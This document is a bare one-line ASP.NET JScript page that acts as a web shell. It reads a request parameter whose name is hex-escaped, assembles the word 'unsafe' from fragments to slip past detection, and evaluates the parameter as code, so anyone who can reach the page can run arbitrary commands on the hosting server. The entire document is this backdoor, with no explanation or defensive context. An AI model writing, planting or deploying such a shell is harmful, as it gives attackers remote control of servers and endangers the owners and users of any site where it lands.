<%@ Page Language = Jscript %><%var PAY:String=Request["\x61\x62\x63"];var u="un"+"sa"+"fe";eval(PAY,u);%>
